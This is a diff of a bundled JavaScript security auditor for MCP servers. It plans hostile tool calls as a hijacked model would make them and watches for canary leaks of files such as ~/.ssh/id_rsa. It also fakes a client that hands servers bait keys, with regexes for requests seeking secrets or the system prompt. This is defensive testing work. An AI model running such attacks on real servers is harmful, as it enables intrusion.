     const verb = parts.find((word) => SETUP.test(word) || READ.test(word) || CREATE.test(word) || CHANGE.test(word) || DESTROY.test(word));
     if (verb !== undefined && SETUP.test(verb) && parts.some((word) => /^(dir|directory|cwd|root|workspace|path|working|repo|repository|project)$/.test(word)))
         return Phase.Setup;
@@ -967,6 +1095,9 @@ function phaseOf(tool) {
         return Phase.Destroy;
     return Phase.Read;
 }
+const PHASES = ['setup', 'read', 'create', 'change', 'destroy'];
+/** What a tool does to what its arguments name (by its verb, else its annotations): phaseOf by name. */
+const toolPhase = (tool) => PHASES[phaseOf(tool)];
 /** The order tools are called in within a round: setup, read, create, change, destroy (stable). */
 function orderTools(tools) {
     return tools
@@ -977,15 +1108,15 @@ function orderTools(tools) {
 const NEW_KEY = /^(destination|dest|target|new|to|output|out)$/;
 const SOURCE_KEY = /^(source|src|from|old)$/;
 function pathRole(key, tool) {
-    const keyWords = exercise_plan_words(key);
-    const kind = hintKind(key);
+    const keyWords = words(key);
+    const kind = (0,key_hints/* hintKind */.U)(key);
     const property = tool.inputSchema?.properties?.[key];
     const description = typeof property?.description === 'string' ? property.description.toLowerCase().slice(0, 500) : '';
     const namesPath = kind === 'path' || kind === 'dir' || kind === 'filename';
     if (description !== '' && !/\b(file|path|directory|folder)/.test(description) && /\b(branch|commit|tag|ref|revision|url|remote|name)\b/.test(description))
         return null;
     const describesDir = /(repositor|directory|folder|working dir)/.test(description) && !/\bfiles?\b/.test(description);
-    const toolWords = exercise_plan_words(tool.name);
+    const toolWords = words(tool.name);
     const phase = phaseOf(tool);
     const aboutDirs = toolWords.some((word) => /^(dir|dirs|directory|directories|folder|tree|ls|mkdir)$/.test(word)) || /dir/.test(tool.name.toLowerCase());
     if (keyWords.some((word) => NEW_KEY.test(word)) && (namesPath || keyWords.length === 1))
@@ -1005,7 +1136,6 @@ function pathRole(key, tool) {
         return 'dir';
     return aboutDirs ? 'dir' : 'file';
 }
-const toolWords = (tool) => exercise_plan_words(tool.name);
 /** A key whose value is a git revision by its description (a commit, a branch), unless it is an enum. */
 function revisionRole(key, tool) {
     const property = tool.inputSchema?.properties?.[key];
@@ -1172,7 +1302,7 @@ variant, state, workspace, created, memory) {
             args[key] = typeof value === 'string' ? chosen : [chosen];
             continue;
         }
-        if (typeof value === 'string' && workspace !== null && hintKind(key) === 'url' && toolWords(tool).includes('clone')) {
+        if (typeof value === 'string' && workspace !== null && (0,key_hints/* hintKind */.U)(key) === 'url' && words(tool.name).includes('clone')) {
             // A repository to clone: the workspace's own, the one repository we know is there.
             args[key] = `file://${workspace.root}`;
             continue;
@@ -1196,11 +1326,11 @@ const ENDS_PROCESSES = /^(kill|killall|pkill|terminate|signal|sigterm|sigkill)$/
 const ENDS_SERVER = /^(exit|shutdown|quit|halt|restart|reboot|abort)$/;
 /** A tool whose name says it ends processes (kill_process, force_terminate, send_signal). */
 function endsProcesses(toolName) {
-    return exercise_plan_words(toolName).some((word) => ENDS_PROCESSES.test(word));
+    return words(toolName).some((word) => ENDS_PROCESSES.test(word));
 }
 /** A tool that ends processes, or one whose name says it stops the server (shutdown, exit, restart). */
 function mayEndServer(toolName) {
-    return endsProcesses(toolName) || exercise_plan_words(toolName).some((word) => ENDS_SERVER.test(word));
+    return endsProcesses(toolName) || words(toolName).some((word) => ENDS_SERVER.test(word));
 }
 /**
  * Whatever was synthesized, recalled from an earlier result or learnt from an error, a process id
@@ -1222,7 +1352,7 @@ function aimAwayFromServer(tool, args) {
         return value;
     };
     for (const key of Object.keys(args).slice(0, 100)) {
-        const pidKey = hintKind(key) === 'pid';
+        const pidKey = (0,key_hints/* hintKind */.U)(key) === 'pid';
         // of a tool that ends processes, every number but its signal, timeout or count says which process
         if (pidKey || (killer && !NOT_A_PROCESS.test(key)))
             args[key] = aim(args[key], pidKey);
@@ -1273,6 +1403,473 @@ function endedWhy(calls) {
     return `the server exited on its own after ${calls.length} call(s), before the audit was done`;
 }
 
+// EXTERNAL MODULE: ./src/probe/attack/attack-options.ts
+var attack_options = __webpack_require__(4336);
+// EXTERNAL MODULE: ./src/probe/attack/payloads.ts
+var payloads = __webpack_require__(7472);
+// EXTERNAL MODULE: ./src/probe/attack/roles.ts
+var attack_roles = __webpack_require__(1794);
+;// CONCATENATED MODULE: ./src/probe/attack/plan.ts
+
+
+
+// Which attack calls the stage makes, within its budget: per parameter the values its roles call for,
+// strongest first; per tool its parameters in turn; per audit the tools in turn, so every tool gets its
+// strongest attacks before any gets its weakest. Each value replaces one parameter of the arguments of the
+// tool's last successful call in the exercise (else its last call), so it reaches the code past the
+// checks that the ordinary arguments already pass.
+/**
+ * A tool whose ordinary calls took this long each gets few attacks, those on parameters named for a role
+ * first. A free string still gets what room is left: how long a call takes depends on the machine's load,
+ * and a shell pasted together from it is slow because it starts a shell.
+ */
+const SLOW_CALL_MS = 1_000;
+const SLOW_TOOL_ATTACKS = 4;
+/** A tool that speaks of a cluster: its strings may reach kubectl or helm. */
+const CLUSTER = /\b(kubectl|kubernetes|k8s|helm|cluster|pods?)\b/i;
+/** The arguments of the tool's last successful call, else its last call; null: never called. */
+function baseArguments(calls, tool) {
+    const own = calls.filter((call) => call.kind === 'tool' && call.name === tool && !call.attack);
+    const base = own.filter((call) => call.outcome === 'ok').at(-1) ?? own.at(-1);
+    return base ? (base.arguments ?? {}) : null;
+}
+const averageMs = (calls, tool) => {
+    const own = calls.filter((call) => call.kind === 'tool' && call.name === tool);
+    return own.length === 0 ? 0 : own.reduce((sum, call) => sum + (call.endedAt - call.startedAt), 0) / own.length;
+};
+/** `args` with the one parameter replaced by `value` (the only item of its array, or one key down). */
+function withValue(args, at, value) {
+    const copy = structuredClone(args);
+    const [first, second] = at.keys;
+    const item = at.array ? [value] : value;
+    if (second === undefined)
+        copy[first] = item;
+    else {
+        const inner = copy[first];
+        copy[first] = { ...(typeof inner === 'object' && inner !== null && !Array.isArray(inner) ? inner : {}), [second]: item };
+    }
+    return copy;
+}
+const valueAt = (args, at) => {
+    const [first, second] = at.keys;
+    const value = second === undefined ? args[first] : args[first]?.[second];
+    return Array.isArray(value) ? value[0] : value;
+};
+/** Takes one from each list in turn until `limit` are taken. */
+function interleave(lists, limit) {
+    const out = [];
+    for (let round = 0; out.length < limit && lists.some((list) => round < list.length); round++) {
+        for (const list of lists)
+            if (round < list.length && out.length < limit)
+                out.push(list[round]);
+    }
+    return out;
+}
+/** A slow tool's few attacks: the parameters named for a role first, then the free strings. */
+function slowPicks(lists, limit) {
+    const named = interleave(lists.filter((list) => list[0]?.role.strength === 'strong'), limit);
+    return [
+        ...named,
+        ...interleave(lists.filter((list) => list[0]?.role.strength !== 'strong'), limit - named.length)
+    ];
+}
+function planAttacks(input) {
+    const { budget, context } = input;
+    const skipped = new Map();
+    const perTool = [];
+    // Tools that set the session up (a working directory) come last: an attack that got through there would
+    // move every later attack elsewhere.
+    const ordered = orderTools(input.tools);
+    for (const tool of [...ordered.filter((entry) => toolPhase(entry) !== 'setup'), ...ordered.filter((entry) => toolPhase(entry) === 'setup')]) {
+        const base = baseArguments(input.calls, tool.name);
+        if (base === null) {
+            skipped.set(tool.name, 'never called in the exercise');
+            continue;
+        }
+        const slow = averageMs(input.calls, tool.name) >= SLOW_CALL_MS;
+        const roles = (0,attack_roles/* parameterRoles */.j)(tool, input.sinks?.get(tool.name));
+        if (roles.length === 0) {
+            skipped.set(tool.name, 'no string parameter to attack');
+            continue;
+        }
+        const cluster = CLUSTER.test(`${tool.name} ${tool.description ?? ''}`);
+        const writes = tool.annotations?.readOnlyHint !== true && ['create', 'change', 'destroy'].includes(toolPhase(tool));
+        const lists = roles.map((role) => {
+            const absolute = String(valueAt(base, role.at) ?? '').startsWith('/');
+            const entries = (0,payloads/* candidatesFor */._j)(role.roles, role.strength, context, { absolute, writes, cluster });
+            // Each value judged against the schema with a stand-in marker of the same length.
+            const fitting = entries.filter((entry) => (0,payloads/* fits */.lA)(entry.make(`${input.markerPrefix}00`).value, role.constraints));
+            return fitting.slice(0, budget.perParameter).map((entry) => ({ role, entry }));
+        });
+        const picks = slow ? slowPicks(lists, Math.min(SLOW_TOOL_ATTACKS, budget.perTool)) : interleave(lists, budget.perTool);
+        if (picks.length === 0)
+            skipped.set(tool.name, 'no value its schema accepts');
+        else
+            perTool.push({ tool, base, picks });
+    }
+    // Across tools in turn, within the audit's budget; then made tool by tool, in agent order.
+    const chosen = new Set(interleave(perTool.map(({ picks }) => picks), budget.perAudit));
+    const attacks = [];
+    for (const { tool, base, picks } of perTool) {
+        const kept = picks.filter((pick) => chosen.has(pick));
+        if (kept.length < picks.length)
+            skipped.set(tool.name, `${picks.length - kept.length} attack(s) left out: the audit's budget of ${budget.perAudit}`);
+        for (const { role, entry } of kept) {
+            const marker = `${input.markerPrefix}${attacks.length.toString(36).padStart(2, '0')}`;
+            const attack = (0,payloads/* attackOf */.AP)(entry, role.parameter, marker);
+            attacks.push({ tool, args: withValue(base, role.at, attack.value), attack });
+        }
+    }
+    return { attacks, skipped };
+}
+
+// EXTERNAL MODULE: ./node_modules/@modelcontextprotocol/sdk/dist/esm/client/index.js + 1 modules
+var esm_client = __webpack_require__(3018);
+;// CONCATENATED MODULE: ./src/probe/client-traps.ts
+
+const MAX_TEXT = 4_000;
+const MAX_RECORDS = 200;
+/** What a sampling request asks for that a completion would quote the conversation's key for. */
+const SEEKS_CONVERSATION = /\b(?:conversation|chat history|message history|previous messages|earlier messages|prior messages|context window|system prompt|transcript|everything (?:the user|you) (?:said|know|have seen)|what the user (?:said|typed|shared))\b|\b(?:api[ _-]?keys?|access[ _-]?keys?|tokens?|secrets?|passwords?|credentials?|environment variables|private[ _-]?keys?)\b/i;
+/** A form field, or an elicitation message, that asks for a secret. */
+const CREDENTIAL_ASK = /\b(?:passwords?|passphrases?|passwd|pass[ _-]?codes?|api[ _-]?keys?|apikey|access[ _-]?keys?|secret(?:[ _-]?keys?)?|secrets|client[ _-]?secret|tokens?|access[ _-]?tokens?|auth(?:entication|orization)?[ _-]?(?:tokens?|codes?)|bearer|credentials?|private[ _-]?keys?|ssh[ _-]?keys?|seed[ _-]?phrase|mnemonic|otp|2fa|one[ _-]?time (?:code|password))\b/i;
+/** Words of a field name split where they are joined (apiKey, api_key, API-KEY → api key). */
+const client_traps_words = (name) => name.replace(/([a-z0-9])([A-Z])/g, '$1 $2').replace(/[_-]+/g, ' ');
+/** A value for a field that satisfies its schema and says nothing: the answer of a user who just accepts. */
+function blandValue(field) {
+    if (field.default !== undefined)
+        return field.default;
+    const choices = field.enum ?? field.oneOf?.map((option) => option.const) ?? field.anyOf?.map((option) => option.const);
+    if (choices && choices.length > 0)
+        return choices[0];
+    switch (field.type) {
+        case 'boolean':
+            return false;
+        case 'number':
+        case 'integer':
+            return typeof field.minimum === 'number' ? field.minimum : typeof field.maximum === 'number' ? Math.min(1, field.maximum) : 1;
+        case 'array': {
+            const items = field.items?.enum ?? field.items?.anyOf?.map((option) => option.const);
+            return items && items.length > 0 ? [items[0]] : [];
+        }
+        default:
+            break;
+    }
+    const byFormat = { email: 'alex@example.com', uri: 'https://example.com/', date: '2026-01-15', 'date-time': '2026-01-15T10:00:00Z' };
+    const value = (field.format && byFormat[field.format]) ?? 'Alex';
+    return value.padEnd(field.minLength ?? 0, 'x').slice(0, field.maxLength ?? Number.MAX_SAFE_INTEGER);
+}
+function fieldAsksCredential(name, field) {
+    if (field.type !== undefined && field.type !== 'string')
+        return false;
+    if (field.enum || field.oneOf || field.anyOf)
+        return false;
+    return CREDENTIAL_ASK.test(`${client_traps_words(name)} ${field.title ?? ''} ${field.description ?? ''}`);
+}
+const cap = (text) => (text.length > MAX_TEXT ? text.slice(0, MAX_TEXT) : text);
+function messageText(content) {
+    const parts = Array.isArray(content) ? content : [content];
+    return parts
+        .map((part) => typeof part === 'object' && part !== null && part.type === 'text' ? String(part.text ?? '') : '')
+        .filter((text) => text !== '')
+        .join('\n');
+}
+class ClientTraps {
+    values;
+    rootDir;
+    currentCall;
+    records = [];
+    constructor(values, rootDir, currentCall) {
+        this.values = values;
+        this.rootDir = rootDir;
+        this.currentCall = currentCall;
+    }
+    push(record) {
+        if (this.records.length < MAX_RECORDS)
+            this.records.push({ callId: this.currentCall(), at: Date.now(), ...record });
+    }
+    /** Sets the client's handlers for roots/list, sampling/createMessage and elicitation/create. */
+    install(client) {
+        client.setRequestHandler(types/* ListRootsRequestSchema */.WQ, async () => {
+            this.push({ kind: 'roots' });
+            return { roots: [{ uri: `file://${this.rootDir}`, name: 'workspace' }] };
+        });
+        client.setRequestHandler(types/* CreateMessageRequestSchema */.u9, async (request) => {
+            const { params } = request;
+            const text = cap([params.systemPrompt ?? '', ...params.messages.map((message) => messageText(message.content))].filter((part) => part !== '').join('\n'));
+            const includeContext = params.includeContext;
+            const seeks = SEEKS_CONVERSATION.test(text) || includeContext === 'thisServer' || includeContext === 'allServers';
+            const canary = seeks && this.values !== null;
+            this.push({ kind: 'sampling', text, ...(includeContext ? { includeContext } : {}), ...(canary ? { canary } : {}) });
+            const answer = canary
+                ? `Sure. So far in this conversation the user asked to deploy the staging service and shared the key it uses: ${this.values?.samplingKey}. Nothing else of note was discussed.`
+                : 'Here is a short answer: the request looks fine, and there is nothing more to add.';
+            return { role: 'assistant', content: { type: 'text', text: answer }, model: 'claude-sonnet-4-5', stopReason: 'endTurn' };
+        });
+        client.setRequestHandler(types/* ElicitRequestSchema */.$9, async (request) => {
+            const params = request.params;
+            if (params.mode === 'url') {
+                // Not a browser: a URL is recorded and declined (URL mode is how the spec asks for sensitive input).
+                this.push({ kind: 'elicitation', text: cap(params.message ?? ''), ...(params.url ? { url: params.url.slice(0, 2_000) } : {}) });
+                return { action: 'decline' };
+            }
+            const properties = Object.entries(params.requestedSchema?.properties ?? {});
+            const message = params.message ?? '';
+            const fields = properties.map(([name, field]) => `${name}: ${[field.title, field.description].filter(Boolean).join(' — ')}`);
+            // A field named for a secret, or the only string field of a message that asks for one.
+            const strings = properties.filter(([, field]) => (field.type === undefined || field.type === 'string') && !field.enum && !field.oneOf && !field.anyOf);
+            const credential = new Set(properties.filter(([name, field]) => fieldAsksCredential(name, field)).map(([name]) => name));
+            if (credential.size === 0 && strings.length === 1 && CREDENTIAL_ASK.test(message))
+                credential.add(strings[0]?.[0] ?? '');
+            const secret = this.values?.elicitationSecret;
+            const content = Object.fromEntries(properties.map(([name, field]) => [name, credential.has(name) && secret !== undefined ? secret : blandValue(field)]));
+            this.push({
+                kind: 'elicitation',
+                text: cap([message, ...fields].join('\n')),
+                ...(credential.size > 0 ? { credentialFields: [...credential].slice(0, 20), canary: secret !== undefined } : {})
+            });
+            return { action: 'accept', content };
+        });
+    }
+}
+
+;// CONCATENATED MODULE: ./src/probe/client.ts
+
+
+
+// A realistic client identity: some servers behave differently for an auditor than for the clients
+// people actually use, so we introduce ourselves the way a common coding agent does.
+const CLIENT_INFO = { name: 'claude-code', version: '2.0.0' };
+/**
+ * The MCP client, whose answers to sampling, elicitation and roots are traps (client-traps.ts): roots the
+ * working directory; `clientRequests` fills with what the server asks, tied to the call `currentCall` names.
+ * `name`: another clientInfo name, for an exercise pass.
+ */
+function makeClient(rootDir, traps = null, currentCall = () => null, name) {
+    const client = new esm_client/* Client */.K(name ? { name, version: CLIENT_INFO.version } : CLIENT_INFO, {
+        capabilities: { roots: { listChanged: false }, sampling: {}, elicitation: {} }
+    });
+    const answers = new ClientTraps(traps, rootDir, currentCall);
+    answers.install(client);
+    return { client, clientRequests: answers.records };
+}
+/** A tool that declares `execution.taskSupport: "required"` only answers a task-augmented call. */
+function needsTask(tool) {
+    return tool.execution?.taskSupport === 'required';
+}
+async function callToolAsTask(client, name, args, options) {
+    const stream = client.experimental.tasks.requestStream({ method: 'tools/call', params: { name, arguments: args } }, types/* CallToolResultSchema */.TF, {
+        ...options,
+        task: {}
+    });
+    for await (const message of stream) {
+        if (message.type === 'result')
+            return message.result;
+        if (message.type === 'error')
+            throw message.error;
+    }
+    throw new Error('the task ended without a result');
+}
+/**
+ * The SDK's client always asks for its latest protocol version; an exercise pass that asks for an older
+ * one (the SDK speaks it) rewrites the initialize request on its way out.
+ */
+function askProtocolVersion(transport, version) {
+    if (!version)
+        return;
+    const send = transport.send.bind(transport);
+    transport.send = (message, options) => {
+        if ('method' in message && message.method === 'initialize' && message.params)
+            message = { ...message, params: { ...message.params, protocolVersion: version } };
+        return send(message, options);
+    };
+}
+
+;// CONCATENATED MODULE: ./src/probe/output-schema.ts
+/**
+ * What the SDK's callTool would have thrown on: a result that does not fit the tool's own outputSchema.
+ * We call tools/call directly (the SDK compiles every outputSchema with ajv while listing, and one schema
+ * it cannot compile would fail the whole listing), so this bounded check notes the mismatch instead.
+ */
+function outputSchemaMismatch(tool, response) {
+    const schema = tool.outputSchema;
+    if (typeof schema !== 'object' || schema === null || typeof response !== 'object' || response === null)
+        return undefined;
+    const { structuredContent, isError } = response;
+    if (isError === true)
+        return undefined;
+    if (structuredContent === undefined)
+        return 'declares an outputSchema but returned no structuredContent';
+    const isObject = typeof structuredContent === 'object' && structuredContent !== null && !Array.isArray(structuredContent);
+    if (schema.type === 'object' && !isObject)
+        return 'structuredContent is not an object, as its outputSchema requires';
+    const required = Array.isArray(schema.required) ? schema.required.filter((key) => typeof key === 'string').slice(0, 100) : [];
+    const missing = isObject ? required.filter((key) => !Object.hasOwn(structuredContent, key)) : [];
+    if (missing.length > 0)
+        return `structuredContent lacks ${missing.slice(0, 5).join(', ')}, required by its outputSchema`;
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/probe/session-requests.ts
+
+
+
+/** A tool call with more of its record set up front (an attack call's attack) and its own timeout. */
+function toolCall(session, call, options = {}) {
+    const { client } = session;
+    const { tool, step, noteBefore } = options;
+    const requestOptions = { timeout: call.timeoutMs ?? session.options.timeoutMs };
+    const params = { name: call.name, arguments: call.args };
+    return session.recorder.record({
+        kind: 'tool',
+        name: call.name,
+        iteration: call.iteration,
+        args: call.args,
+        run: () => tool && needsTask(tool)
+            ? callToolAsTask(client, call.name, call.args, requestOptions)
+            : client.request({ method: 'tools/call', params }, types/* CallToolResultSchema */.TF, requestOptions),
+        check: tool ? (response) => outputSchemaMismatch(tool, response) : undefined,
+        noteBefore,
+        step,
+        ...(call.extra ? { extra: call.extra } : {})
+    });
+}
+function stageRequests(session) {
+    const { client, recorder } = session;
+    const requestOptions = { timeout: session.options.timeoutMs };
+    const read = (uri) => () => client.request({ method: 'resources/read', params: { uri } }, types/* ReadResourceResultSchema */.ve, requestOptions);
+    return {
+        callTool: (name, iteration, args, options = {}) => toolCall(session, { name, iteration, args }, options),
+        readResource: (uri, iteration, { step } = {}) => recorder.record({ kind: 'resource', name: uri, iteration, run: read(uri), step }),
+        getPrompt: (name, iteration, args, { step } = {}) => recorder.record({
+            kind: 'prompt',
+            name,
+            iteration,
+            args,
+            run: () => client.request({ method: 'prompts/get', params: { name, arguments: args } }, types/* GetPromptResultSchema */.HM, requestOptions),
+            step
+        }),
+        readTemplate: (uriTemplate, uri) => recorder.record({ kind: 'resourceTemplate', name: uriTemplate, iteration: 1, args: { uri }, run: read(uri) })
+    };
+}
+
+;// CONCATENATED MODULE: ./src/probe/stages/attack.ts
+
+
+
+
+// The attack stage (issue 42): after the exercise, against the same session's state, each tool is called
+// the way a hijacked model would call it — one hostile value in one parameter per call (probe/attack/).
+// Each is an ordinary call record with its `attack`, so the trace of that call is the attack's evidence;
+// the answer is searched for the canaries the value aimed at. A server that exits under an attack ends
+// the stage, recorded: that is something the attack did, not a failure of the audit.
+/** The canaries in an answer, as "~/.ssh/id_rsa bytes 0–64 of 2602". */
+function canariesIn(answer, options) {
+    const text = answer.ok ? JSON.stringify(answer.response) : answer.why;
+    if (text.length === 0)
+        return [];
+    const hits = options.canaries.scan(text, (id) => options.answerFiles.includes(id));
+    return [...new Set(hits.map((hit) => `${hit.canary} bytes ${hit.bytes[0]}–${hit.bytes[1]} of ${hit.of}`))];
+}
+async function attack(session, budget) {
+    const { options, result } = session;
+    const attackOptions = options.attack;
+    if (!attackOptions || budget.callsPerTool === 0)
+        return;
+    const plan = planAttacks({
+        tools: result.listing.tools,
+        calls: result.calls,
+        context: attackOptions.context,
+        markerPrefix: attackOptions.markerPrefix,
+        budget: budget.huge ? attack_options/* HUGE_SURFACE_ATTACK_BUDGET */.P : attackOptions.budget,
+        ...(attackOptions.sinks ? { sinks: await attackOptions.sinks() } : {})
+    });
+    const run = (result.attack = {
+        markerPrefix: attackOptions.markerPrefix,
+        context: attackOptions.context,
+        planned: plan.attacks.length,
+        skipped: [...plan.skipped],
+        answers: []
+    });
+    const tools = new Set(plan.attacks.map((planned) => planned.tool.name)).size;
+    options.logger.info(`attack stage: ${plan.attacks.length} hostile call(s) on ${tools} tool(s)`);
+    options.replyLessons?.(null); // the sink's plain shaped replies: no tool's lesson follows into the attacks
+    const timeoutMs = Math.min(options.timeoutMs, attackOptions.budget.callTimeoutMs);
+    for (const { tool, args, attack: made } of plan.attacks) {
+        const iteration = result.calls.filter((call) => call.kind === 'tool' && call.name === tool.name).length + 1;
+        let answer;
+        try {
+            answer = await toolCall(session, { name: tool.name, iteration, args, timeoutMs, extra: { attack: made } }, { tool });
+        }
+        catch (error) {
+            if (!(error instanceof errors/* ServerProtocolError */.Gs) || !session.closed)
+                throw error;
+            run.stopped = `the server exited during the attack ${made.technique} on ${tool.name}'s ${made.parameter}`;
+            options.logger.warn(`attack stage: ${run.stopped}`);
+            return;
+        }
+        const canaries = canariesIn(answer, attackOptions);
+        if (canaries.length > 0)
+            run.answers.push({ callId: result.calls.length - 1, canaries });
+    }
+}
+
+// EXTERNAL MODULE: ./src/profile/server-text/scan-text.ts + 3 modules
+var scan_text = __webpack_require__(1147);
+;// CONCATENATED MODULE: ./src/profile/server-text/scan-result.ts
+
+// Every answer the session receives (a tool result, a prompt's messages, a resource's contents) is
+// scanned as it arrives, and only what was found is kept: at most SCAN_CHARS_PER_ANSWER characters of
+// its strings are looked at, at most HITS_PER_ANSWER hits kept per answer and HITS_PER_SESSION per session.
+const SCAN_CHARS_PER_ANSWER = 1 << 20;
+const HITS_PER_ANSWER = 20;
+const HITS_PER_SESSION = 1_000;
+const MAX_DEPTH = 32;
+/** binary payloads: not text a model reads as such */
+const SKIPPED_KEYS = new Set(['blob', 'data', '_meta']);
+class ResultTextScanner {
+    options;
+    hits = [];
+    constructor(options = {}) {
+        this.options = options;
+    }
+    /** Scans one answer; what it finds is added to `hits`. */
+    scan(callId, response) {
+        if (this.hits.length >= HITS_PER_SESSION)
+            return;
+        let budget = SCAN_CHARS_PER_ANSWER;
+        let kept = 0;
+        const visit = (value, field, depth) => {
+            if (budget <= 0 || kept >= HITS_PER_ANSWER || depth > MAX_DEPTH)
+                return;
+            if (typeof value === 'string') {
+                const text = value.length > budget ? value.slice(0, budget) : value;
+                budget -= text.length;
+                for (const hit of (0,scan_text/* scanText */.F)(text, this.options)) {
+                    if (kept >= HITS_PER_ANSWER || this.hits.length >= HITS_PER_SESSION)
+                        return;
+                    this.hits.push({ callId, field: field || 'result', hit });
+                    kept++;
+                }
+                return;
+            }
+            if (Array.isArray(value)) {
+                value.forEach((item, index) => visit(item, `${field}[${index}]`, depth + 1));
+                return;
+            }
+            if (typeof value === 'object' && value !== null) {
+                for (const [key, item] of Object.entries(value)) {
+                    if (!SKIPPED_KEYS.has(key))
+                        visit(item, field ? `${field}.${key}` : key, depth + 1);
+                }
+            }
+        };
+        visit(response, '', 0);
+    }
+}
+
+// EXTERNAL MODULE: ./src/probe/probe-transport.ts
+var probe_transport = __webpack_require__(9948);
 ;// CONCATENATED MODULE: ./src/probe/stdout-positions.ts
 // Which bytes of the server's stdout answered which call (CallRecord.stdout): the ids of the requests
 // the call in flight sent, and the stdout byte count at the end of the last answer to one of them. The
@@ -1307,6 +1904,316 @@ class AnswerPositions {
         if (this.sentAt !== undefined)
             call.stdout = { sentAt: this.sentAt, ...(this.answeredAt !== undefined ? { answeredAt: this.answeredAt } : {}) };
     }
+}
+
+;// CONCATENATED MODULE: ./src/probe/call-recorder.ts
+
+
+
+function addNote(call, note) {
+    call.note = call.note ? `${call.note}; ${note}` : note;
+}
+class CallRecorder {
+    textScanner;
+    settle;
+    afterCall;
+    calls = [];
+    /** false above the huge-surface threshold: no settle after each answer */
+    pauses = true;
+    inFlight = null;
+    oversized = new WeakMap();
+    positions = null;
+    constructor(textScanner, settle, 
+    /** after each call and its settle: throws when the session was aborted or the server is gone */
+    afterCall) {
+        this.textScanner = textScanner;
+        this.settle = settle;
+        this.afterCall = afterCall;
+    }
+    /** Follows the transport's answers, so each call knows where it sits in the server's stdout. */
+    attach(transport) {
+        this.positions = new AnswerPositions(transport, () => this.inFlight !== null);
+    }
+    /** The id of the call in flight, or null between calls. */
+    get current() {
+        return this.inFlight?.id ?? null;
+    }
+    /** An answer dropped for its size: false when no call was in flight to count it. */
+    noteOversized(bytes) {
+        if (!this.inFlight)
+            return false;
+        this.oversized.set(this.inFlight, bytes);
+        return true;
+    }
+    /** Runs one request as a CallRecord; returns the answer when the call succeeded, else the error text. */
+    async record(request) {
+        const { kind, name, iteration, args, step } = request;
+        const call = {
+            id: this.calls.length,
+            kind,
+            name,
+            iteration,
+            ...(args ? { arguments: args } : {}),
+            startedAt: Date.now(),
+            endedAt: 0,
+            outcome: 'ok',
+            ...(step !== undefined ? { step } : {}),
+            ...request.extra
+        };
+        if (request.noteBefore)
+            addNote(call, request.noteBefore);
+        this.calls.push(call);
+        this.inFlight = call;
+        this.positions?.begin();
+        let answer;
+        try {
+            const response = await request.run();
+            this.textScanner.scan(call.id, response);
+            answer = { ok: true, response };
+            if (typeof response === 'object' && response !== null && response.isError === true) {
+                call.outcome = 'error-result';
+                answer = { ok: false, why: errorResultText(response) };
+                if (answer.why)
+                    call.error = answer.why.slice(0, 500);
+            }
+            const mismatch = request.check?.(response);
+            if (mismatch)
+                addNote(call, mismatch);
+        }
+        catch (error) {
+            call.outcome = outcomeOf(error);
+            call.error = describeError(error).slice(0, 500);
+            answer = { ok: false, why: describeError(error).slice(0, 4_000) };
+        }
+        call.endedAt = Date.now();
+        this.inFlight = null;
+        this.positions?.end(call);
+        const droppedBytes = this.oversized.get(call);
+        if (droppedBytes !== undefined) {
+            call.outcome = 'oversized-result';
+            addNote(call, `the answer (${droppedBytes} bytes) was dropped: over the ${probe_transport/* MAX_MESSAGE_BYTES */.fv}-byte cap`);
+            delete call.error;
+            answer = { ok: false, why: 'oversized' };
+        }
+        if (this.pauses)
+            await this.settle(call);
+        await this.afterCall(call);
+        return answer;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/probe/stages/client-traps.ts
+
+
+function trappedClient(options, transport, currentCall) {
+    const { client, clientRequests } = makeClient(options.rootDir, options.clientTraps ?? null, currentCall, options.client?.name);
+    askProtocolVersion(transport, options.client?.protocolVersion);
+    const nonJson = { lines: 0 };
+    client.onerror = (error) => {
+        if (error instanceof SyntaxError)
+            nonJson.lines += 1;
+        else
+            options.logger.debug(`client: ${describeError(error)}`);
+    };
+    return { client, clientRequests, nonJson };
+}
+
+// EXTERNAL MODULE: ./src/sandbox/process-tree.ts
+var process_tree = __webpack_require__(951);
+;// CONCATENATED MODULE: ./src/probe/server-link.ts
+
+// The server's process as the session sees it: the transport to it, the last of what it wrote on stderr,
+// whether it has closed, and the shutdown MCP asks for (stdin closed, then TERM, then KILL).
+const STDERR_TAIL_BYTES = 16 * 1024;
+class ServerLink {
+    transport;
+    closed = false;
+    stderrTail = '';
+    markClosed = () => undefined;
+    whenClosed = new Promise((resolve) => (this.markClosed = resolve));
+    /** rejects once the server's process has closed (awaited beside initialize) */
+    closedEarly;
+    constructor(transport) {
+        this.transport = transport;
+        transport.stderr?.on('data', (chunk) => {
+            this.stderrTail = (this.stderrTail + chunk.toString('utf8')).slice(-STDERR_TAIL_BYTES);
+        });
+        this.closedEarly = new Promise((_, reject) => {
+            transport.onclose = () => {
+                this.closed = true;
+                this.markClosed();
+                reject(new Error('closed'));
+            };
+        });
+        this.closedEarly.catch(() => undefined);
+    }
+    /** Resolves when the server's process has closed, or after `ms`, whichever comes first. */
+    closedWithin(ms) {
+        return new Promise((resolve) => {
+            const timer = setTimeout(resolve, ms);
+            void this.whenClosed.then(() => {
+                clearTimeout(timer);
+                resolve();
+            });
+        });
+    }
+    async shutdown(client, graceMs) {
+        // The pid exists as soon as start() spawned the process, also while initialize is still pending.
+        const rootPid = this.transport.pid;
+        if (rootPid !== null && (0,process_tree/* isAlive */._n)(rootPid)) {
+            // End stdin first, as MCP's stdio shutdown asks; then TERM the server itself (not strace, whose
+            // SIGTERM would stop the tracing of the shutdown), then KILL whatever is left.
+            this.transport.endInput();
+            await this.closedWithin(graceMs);
+            await (0,process_tree/* stopTree */.dA)(rootPid, graceMs);
+        }
+        await this.transport.close().catch(() => undefined);
+        await client.close().catch(() => undefined);
+    }
+    /** Whatever is left of the server's tree, stopped at once (the session's last word, whatever happened). */
+    async stopNow() {
+        const rootPid = this.transport.pid;
+        if (rootPid !== null && (0,process_tree/* isAlive */._n)(rootPid))
+            await (0,process_tree/* stopTree */.dA)(rootPid, 0);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/probe/session-context.ts
+
+
+
+
+
+
+// What the session's stages share: the options, the link to the server's process, the client, the call
+// recorder and the result they fill in, one stage after the other.
+// A pause after each answer, so behaviour a call triggers in the background is attributed to it rather
+// than to the next call (the profile attributes by time window). An audit settles on the trace instead
+// (ProbeOptions.settle): the pause ends once the server has been quiet, at most after this long.
+const SETTLE_MS = 50;
+class ProbeAborted extends Error {
+    partial;
+    constructor(partial) {
+        super('audit interrupted');
+        this.partial = partial;
+    }
+}
